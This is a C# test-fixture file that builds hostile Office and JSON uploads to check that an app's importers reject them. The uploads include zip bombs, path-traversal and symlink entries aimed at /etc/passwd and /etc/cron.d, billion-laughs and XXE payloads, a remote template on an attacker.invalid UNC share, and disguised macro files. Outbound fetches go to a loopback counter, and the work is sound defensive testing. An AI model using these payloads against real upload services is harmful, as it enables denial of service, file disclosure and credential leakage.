using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using WorkProgramme.Application.Features.OfficeTables;
using WorkProgramme.Domain.Common;

namespace WorkProgramme.Testing;

public enum HostileFormat
{
    Xlsx,
    Docx,
    Json,
}

/// <summary>
/// One hostile upload: what it is, the file name it is sent as, its bytes (built on demand: some are large), and the
/// words one of which the refusal must contain (English; the surfaces word a few refusals their own way).
/// </summary>
public sealed record HostileFile(string Kind, HostileFormat Format, string FileName, Func<byte[]> Build, params string[] Expected)
{
    public override string ToString() => Kind;
}

/// <summary>
/// Every kind of hostile file the upload surfaces (import page, <c>wp import-xlsx/import-docx</c>, <c>wp import</c>, the
/// activity API) must refuse, each generated here. Files that would reach out (XXE, external relationships, remote
/// templates) point at <paramref name="trapUrl"/>, a loopback listener that counts connections.
/// </summary>
public static class HostileFiles
{
    private static readonly Lazy<byte[]> Workbook = new(() => ExportSpreadsheet.Template(Language.En, [.. WorkProgramme.Domain.Activities.TaskType.Shipped.Select(WorkProgramme.Application.Features.Programmes.ActivityRowViews.ToLabel)]).Content);
    private static readonly Lazy<byte[]> WordDocument = new(BuildDocument);

    private const string Xlsx = "programme.xlsx";
    private const string Docx = "programme.docx";

    public static IReadOnlyList<HostileFile> Office(string trapUrl) =>
    [
        new("zip bomb: one 20 MB part of spaces", HostileFormat.Xlsx, Xlsx,
            () => OfficeFiles.Rewrite(Workbook.Value, new Dictionary<string, string?> { ["xl/bomb.xml"] = new string(' ', 20 * 1024 * 1024) }), "zip bomb"),
        new("zip bomb in a Word document", HostileFormat.Docx, Docx,
            () => OfficeFiles.Rewrite(WordDocument.Value, new Dictionary<string, string?> { ["word/bomb.xml"] = new string(' ', 20 * 1024 * 1024) }), "zip bomb"),
        new("zip bomb split over 110 entries of 1,000,000 bytes (under the ratio check each)", HostileFormat.Xlsx, Xlsx,
            SplitBomb, "uncompressed file is larger"),
        new("2,001 entries", HostileFormat.Xlsx, Xlsx,
            () => OfficeFiles.Zip(Enumerable.Range(0, 2_001).Select(i => $"xl/f{i}.xml"), s => s.WriteByte((byte)' ')), "too many entries"),
        new("entry whose header under-declares its size", HostileFormat.Docx, Docx, UnderDeclared, "damaged", "invalid XML", "zip bomb", "uncompressed"),
        new("entry named ../../evil.xml", HostileFormat.Xlsx, Xlsx, () => Add(Workbook.Value, "../../evil.xml", "<x/>"), "dangerous name"),
        new("entry named /etc/cron.d/evil", HostileFormat.Docx, Docx, () => Add(WordDocument.Value, "/etc/cron.d/evil", "<x/>"), "dangerous name"),
        new("entry named word\\..\\..\\evil.xml", HostileFormat.Docx, Docx, () => Add(WordDocument.Value, "word\\..\\..\\evil.xml", "<x/>"), "dangerous name"),
        new("symbolic link entry", HostileFormat.Xlsx, Xlsx, SymbolicLink, "symbolic link"),
        new("billion laughs DTD in document.xml", HostileFormat.Docx, Docx, () => Replace(WordDocument.Value, "word/document.xml", BillionLaughs), "DTD"),
        new("XXE file:///etc/passwd in sharedStrings", HostileFormat.Xlsx, Xlsx,
            () => Add(Workbook.Value, "xl/sharedStrings.xml", Xxe("file:///etc/passwd")), "DTD"),
        new("XXE to an http URL in document.xml", HostileFormat.Docx, Docx,
            () => Replace(WordDocument.Value, "word/document.xml", xml => Xxe(trapUrl + "/xxe") + xml[(xml.IndexOf("?>", StringComparison.Ordinal) + 2)..]), "DTD"),
        new("external link relationship to http", HostileFormat.Xlsx, Xlsx,
            () => Relate(Workbook.Value, "xl/_rels/workbook.xml.rels", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink", trapUrl + "/link.xlsx"),
            "external resources"),
        new("attachedTemplate to a UNC path", HostileFormat.Docx, Docx,
            () => Add(WordDocument.Value, "word/_rels/settings.xml.rels", Relationships(
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", @"\\attacker.invalid\share\evil.dotm")),
            "external resources"),
        new("altChunk to an http URL", HostileFormat.Docx, Docx,
            () => Relate(WordDocument.Value, "word/_rels/document.xml.rels", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk", trapUrl + "/chunk.html"),
            "external resources"),
        new("image relationship to an http URL", HostileFormat.Docx, Docx,
            () => Relate(WordDocument.Value, "word/_rels/document.xml.rels", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", trapUrl + "/pixel.png"),
            "external resources"),
        new("macro-enabled workbook (.xlsm) renamed .xlsx", HostileFormat.Xlsx, Xlsx, MacroWorkbook, "macros"),
        new("Word document with vbaProject.bin (.docm) renamed .docx", HostileFormat.Docx, Docx,
            () => Add(WordDocument.Value, "word/vbaProject.bin", "Attribute VB_Name = \"ThisDocument\""), "macros"),
        new("encrypted (OLE compound file) renamed .docx", HostileFormat.Docx, Docx,
            () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[4096]], "Encrypted"),
        new("PDF renamed .xlsx", HostileFormat.Xlsx, Xlsx, () => Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"), "not an .xlsx"),
        new("Windows executable renamed .docx", HostileFormat.Docx, Docx, () => [(byte)'M', (byte)'Z', .. new byte[1022]], "not an .docx"),
        new("truncated zip", HostileFormat.Xlsx, Xlsx, () => Workbook.Value[..(Workbook.Value.Length * 2 / 3)], "damaged"),
        new("empty file", HostileFormat.Docx, Docx, () => [], "empty", "Choose an .xlsx or .docx file"),
        new("cell at XFD1048576, the far corner of the sheet", HostileFormat.Xlsx, Xlsx, FarCorner, "sheet is too large"),
        new("sheet of 1,000,000 rows", HostileFormat.Xlsx, Xlsx, MillionRows, "sheet is too large"),
        new("110 MB of sharedStrings", HostileFormat.Xlsx, Xlsx, HugeSharedStrings, "zip bomb", "uncompressed file is larger"),
        new("workbook sent as a Word document", HostileFormat.Docx, Docx, () => Workbook.Value, "not a Word document"),
        new("file over 10 MB", HostileFormat.Xlsx, Xlsx, Oversized, "larger than the maximum size", "too large", "Request too large"),
    ];

    /// <summary>Programme files (JSON) for <c>wp import</c>; the activity API gets the same bodies.</summary>
    public static IReadOnlyList<HostileFile> Json() =>
    [
        new("malformed JSON", HostileFormat.Json, "programme.json", () => Encoding.UTF8.GetBytes("{\"slug\": \"x\", \"activities\": [ {"), "not a valid programme JSON"),
        new("10,000 levels of nesting", HostileFormat.Json, "programme.json",
            () => Encoding.UTF8.GetBytes("{\"title\":" + new string('[', 10_000) + new string(']', 10_000) + "}"), "not a valid programme JSON"),
        new("number too large (1e400)", HostileFormat.Json, "programme.json",
            () => Encoding.UTF8.GetBytes("{\"number\": 1e400, \"activities\": [{\"number\": 1e400}]}"), "not a valid programme JSON"),
        new("duplicate keys", HostileFormat.Json, "programme.json",
            () => Encoding.UTF8.GetBytes("{\"slug\": \"ptc-2022-2025\", \"slug\": \"other\", \"number\": 1, \"number\": 2}"), "not a valid programme JSON"),
        new("empty file", HostileFormat.Json, "programme.json", () => [], "not a valid programme JSON", "empty"),
        new("21 MB of JSON", HostileFormat.Json, "programme.json",
            () => Encoding.UTF8.GetBytes("{\"slug\": \"" + new string('a', 21 * 1024 * 1024) + "\"}"), "too large", "larger than the maximum size"),
    ];

    private static byte[] BuildDocument()
    {
        using var buffer = new MemoryStream();
        using (var document = WordprocessingDocument.Create(buffer, DocumentFormat.OpenXml.WordprocessingDocumentType.Document))
        {
            document.AddMainDocumentPart().Document = new Document(new Body(new Paragraph(new Run(new Text("Programme")))));
            document.MainDocumentPart!.AddNewPart<DocumentSettingsPart>().Settings = new Settings();
        }

        return buffer.ToArray();
    }

    private static byte[] Add(byte[] package, string name, string text) =>
        OfficeFiles.Rewrite(package, new Dictionary<string, string?> { [name] = text });

    private static byte[] Replace(byte[] package, string name, Func<string, string> change) =>
        OfficeFiles.Rewrite(package, new Dictionary<string, string?> { [name] = change(OfficeFiles.EntryText(package, name)) });

    private static string BillionLaughs(string xml) =>
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
        + string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat(i == 1 ? "&lol;" : $"&lol{i - 1};", 10))}\">"))
        + "]>" + xml[(xml.IndexOf("?>", StringComparison.Ordinal) + 2)..].Replace("Programme", "&lol9;", StringComparison.Ordinal);

    private static string Xxe(string url) =>
        $"<?xml version=\"1.0\"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM \"{url}\">]>"
        + "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\" uniqueCount=\"1\"><si><t>&xxe;</t></si></sst>";

    private static string Relationships(string type, string target) =>
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + $"<Relationship Id=\"rIdHostile\" Type=\"{type}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>";

    private static byte[] Relate(byte[] package, string relsName, string type, string target) =>
        Replace(package, relsName, rels => rels.Replace("</Relationships>",
            $"<Relationship Id=\"rIdHostile\" Type=\"{type}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>", StringComparison.Ordinal));

    private static byte[] MacroWorkbook() => Replace(Workbook.Value, "[Content_Types].xml", types => types.Replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", StringComparison.Ordinal));

    private static byte[] SplitBomb()
    {
        var zeros = new byte[1_000_000];
        return OfficeFiles.Zip(["[Content_Types].xml", .. Enumerable.Range(0, 110).Select(i => $"xl/media/part{i}.bin")], s => s.Write(zeros));
    }

    /// <summary>A zip whose headers say a part is 100 bytes when it inflates to 5 MB.</summary>
    private static byte[] UnderDeclared()
    {
        var file = OfficeFiles.Rewrite(WordDocument.Value, new Dictionary<string, string?> { ["word/big.xml"] = "<x>" + new string('a', 5 * 1024 * 1024) + "</x>" });
        var name = Encoding.ASCII.GetBytes("word/big.xml");
        for (var i = 0; i + 46 < file.Length; i++)
        {
            var local = file[i] == 0x50 && file[i + 1] == 0x4B && file[i + 2] == 0x03 && file[i + 3] == 0x04;
            var central = file[i] == 0x50 && file[i + 1] == 0x4B && file[i + 2] == 0x01 && file[i + 3] == 0x02;
            var (nameAt, sizeAt) = local ? (30, 22) : central ? (46, 24) : (0, 0);
            if (nameAt > 0 && file.AsSpan(i + nameAt).StartsWith(name))
            {
                BitConverter.TryWriteBytes(file.AsSpan(i + sizeAt, 4), 100u);
            }
        }

        return file;
    }

    private static byte[] SymbolicLink()
    {
        using var source = new ZipArchive(new MemoryStream(Workbook.Value), ZipArchiveMode.Read);
        using var buffer = new MemoryStream();
        using (var target = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var entry in source.Entries)
            {
                using var from = entry.Open();
                using var to = target.CreateEntry(entry.FullName).Open();
                from.CopyTo(to);
            }

            var link = target.CreateEntry("xl/media/image1.png");
            link.ExternalAttributes = unchecked((int)0xA1FF0000); // S_IFLNK | 0777
            using var stream = link.Open();
            stream.Write(Encoding.ASCII.GetBytes("/etc/passwd"));
        }

        return buffer.ToArray();
    }

    private static byte[] FarCorner() => OfficeFiles.EditSheet(Workbook.Value, 0, new Dictionary<string, string?> { ["XFD1048576"] = "corner" });

    private static byte[] MillionRows()
    {
        var sheetName = FirstSheetEntry();
        return Streamed(sheetName, writer =>
        {
            writer.Write("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>");
            for (var r = 1; r <= 1_000_000; r++)
            {
                writer.Write("<row><c t=\"inlineStr\"><is><t>x</t></is></c></row>");
            }

            writer.Write("</sheetData></worksheet>");
        });
    }

    private static byte[] HugeSharedStrings() => Streamed("xl/sharedStrings.xml", writer =>
    {
        writer.Write("<?xml version=\"1.0\" encoding=\"UTF-8\"?><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">");
        var item = "<si><t>" + new string('s', 1000) + "</t></si>";
        for (var i = 0; i < 110 * 1024; i++)
        {
            writer.Write(item);
        }

        writer.Write("</sst>");
    });

    private static byte[] Oversized()
    {
        var large = new byte[Documents.Packages.OfficePackageGuard.MaxFileBytes + 1];
        Workbook.Value.CopyTo(large, 0);
        return large;
    }

    private static string FirstSheetEntry()
    {
        using var zip = new ZipArchive(new MemoryStream(Workbook.Value), ZipArchiveMode.Read);
        return zip.Entries.Select(e => e.FullName).Where(n => n.StartsWith("xl/worksheets/", StringComparison.Ordinal) && n.EndsWith(".xml", StringComparison.Ordinal))
            .Order(StringComparer.Ordinal).First();
    }

    /// <summary>The workbook with one entry replaced by text streamed into the zip (too large to build as one string).</summary>
    private static byte[] Streamed(string name, Action<TextWriter> write)
    {
        using var source = new ZipArchive(new MemoryStream(Workbook.Value), ZipArchiveMode.Read);
        using var buffer = new MemoryStream();
        using (var target = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var entry in source.Entries.Where(e => e.FullName != name))
            {
                using var from = entry.Open();
                using var to = target.CreateEntry(entry.FullName).Open();
                from.CopyTo(to);
            }

            using var stream = target.CreateEntry(name, CompressionLevel.Fastest).Open();
            using var writer = new StreamWriter(stream, new UTF8Encoding(false), 1 << 16);
            write(writer);
        }

        return buffer.ToArray();
    }
}

/// <summary>A loopback listener standing for "the outside": any connection to it means a file made the app reach out.</summary>
public sealed class OutboundTrap : IDisposable
{
    private readonly TcpListener listener = new(IPAddress.Loopback, 0);
    private readonly CancellationTokenSource stop = new();
    private int connections;

    public OutboundTrap()
    {
        listener.Start();
        _ = AcceptAsync();
    }

    public string Url => $"http://127.0.0.1:{((IPEndPoint)listener.LocalEndpoint).Port}";

    public int Connections => Volatile.Read(ref connections);

    private async Task AcceptAsync()
    {
        try
        {
            while (!stop.IsCancellationRequested)
            {
                using var client = await listener.AcceptTcpClientAsync(stop.Token);
                Interlocked.Increment(ref connections);
            }
        }
        catch (OperationCanceledException)
        {
        }
        catch (ObjectDisposedException)
        {
        }
    }

    public void Dispose()
    {
        stop.Cancel();
        listener.Stop();
        stop.Dispose();
    }
}
